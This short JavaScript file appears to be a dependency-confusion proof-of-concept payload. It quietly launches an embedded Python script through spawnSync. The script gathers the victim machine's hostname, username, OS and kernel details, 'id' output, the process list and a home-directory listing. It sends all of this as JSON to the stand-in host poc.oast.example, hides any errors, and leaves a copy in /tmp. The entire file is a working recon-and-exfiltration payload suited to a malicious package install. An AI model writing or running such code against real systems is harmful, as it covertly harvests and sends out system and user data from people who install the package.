const { spawnSync } = require("child_process");
const code = `
import getpass, json, os, platform, socket, subprocess, urllib.request
def sh(cmd):
    return subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout
facts = {"node": platform.node(), "user": getpass.getuser(), "ver": platform.platform(), "cwd": os.getcwd(),
         "release": open("/etc/os-release").read(), "version": open("/proc/version").read(),
         "id": sh("id"), "ps": sh("ps aux"), "ls": sh("ls -la ~"), "host": sh("hostname -f"), "fqdn": socket.getfqdn()}
try:
    urllib.request.urlopen("http://poc.oast.example/", data=json.dumps(facts).encode(), timeout=4)
except OSError:
    pass
open("/tmp/dep_confusion_proof.txt", "w").write(json.dumps(facts))
`;
spawnSync("python3", ["-c", code.replace(/^ /gm, "")], { stdio: "ignore", timeout: 15000 });
